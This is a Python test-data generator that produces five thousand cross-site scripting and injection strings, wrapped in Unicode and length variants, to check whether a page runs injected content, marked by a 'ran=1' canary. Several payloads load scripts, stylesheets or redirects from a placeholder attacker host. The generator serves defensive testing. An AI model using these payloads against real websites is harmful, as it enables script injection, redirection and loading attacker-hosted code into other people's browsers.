"""Generate names and lines that attack a page, as somebody will: each ends in `ran = 1` if a browser runs it."""

from itertools import islice, product

SCRIPTS = (
    "<script>ran=1</script>",
    "</script><script>ran=1</script>",
    "<script src=//{evil}/x.js></script>",
    "<SCRIPT>ran=1</SCRIPT>",
    "<scr<script>ipt>ran=1</scr</script>ipt>",
    "<img src=x onerror=ran=1>",
    "<img src='http://{evil}/x.png'>",
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<body onload=ran=1>",
    "<iframe src='javascript:parent.ran=1'></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href='javascript:ran=1'>x</a>",
    "<details open ontoggle=ran=1>",
    "<input autofocus onfocus=ran=1>",
    "<video><source onerror=ran=1>",
    "<math><mtext><script>ran=1</script></mtext></math>",
    "<template><script>ran=1</script></template>",
    "<style>@import 'http://{evil}/x.css';</style>",
    "<link rel=stylesheet href=http://{evil}/x.css>",
    "<meta http-equiv=refresh content='0;url=http://{evil}/'>",
    "<base href=http://{evil}/>",
    "<object data='http://{evil}/x'></object>",
    "<embed src='http://{evil}/x'>",
    "<form action=http://{evil}/><button autofocus>x",
    "javascript:ran=1",
    "data:text/html,<script>ran=1</script>",
    "http://{evil}/",
    '"><script>ran=1</script>',
    "' onmouseover='ran=1",
    "`${{ran=1}}`",
    "{{{{constructor.constructor('ran=1')()}}}}",
    "{{ran=1}}",
    "${{ran=1}}",
    "<%= ran=1 %>",
    "#{{ran=1}}",
    "{{%ran%}}",
    "color: red; background: url(http://{evil}/x)",
    "}} * {{ display: none }} body {{ background: url('http://{evil}/x') }}",
    "</style><style>*{{background:url(http://{evil}/x)}}",
    "expression(ran=1)",
    "\\u003cscript\\u003eran=1\\u003c/script\\u003e",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;script&#62;ran=1",
    "__proto__",
    "constructor",
    "toString",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "\0<script>ran=1</script>",
)
SHAPES = (
    "{0}",
    "\u202e{0}",
    "\u2066{0}",
    "{0}\u2067\u202d",
    "\u05e9\u05dc\u05d5\u05dd {0}",
    "\u0627\u0644\u0633\u0644\u0627\u0645 {0} \u0639\u0644\u064a\u0643\u0645",
    "Z\u0489\u035f\u0310\u0340\u0341\u035c{0}" + "\u0310\u0340\u0489\u0336" * 30,
    "{0}" + "\u0336\u0310" * 40,
    "{0}" + "W" * 4000,
    "A" * 70 + "{0}",
    "{0}\n\n\n\n\n\n\n\n{0}",
    "\t{0}\r\n",
    "{0}" + "\ufdfd" * 20,
    "{0}" + "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 12,
    "\u200b\u200d\u2060{0}\ufeff",
    "\u3164\u2800{0}",
    "{0} {0} {0}",
    "@everyone {0}",
    "{0}'\"`",
    "\u2029{0}\u2028",
    "\ud800{0}",
    "\U000e0041{0}\ue000",
    "{0}\u0f3a\u0f3b\u0f3c\u1cd0\u20e3",
    "{0}\u0000",
    "{0}.".upper().replace("RAN=1", "ran=1"),
)
ONCE = len(SCRIPTS) * len(SHAPES)
"""Each text in each shape."""
MOST = 5000


def corpus(evil: str) -> list[str]:
    """Return five thousand of them. `evil`: a host and port to which no request may ever go."""
    plain = (one.format(evil=evil) for one in SCRIPTS)
    shaped = [shape.replace("{0}", one) for one, shape in product(plain, SHAPES)]
    numbered = (f"{one}{number or ''}" for number in range(MOST) for one in shaped)
    # Anything that can't be sent as JSON can't have come in as JSON either.
    return [one.encode("utf-8", "replace").decode() for one in islice(numbered, MOST)]
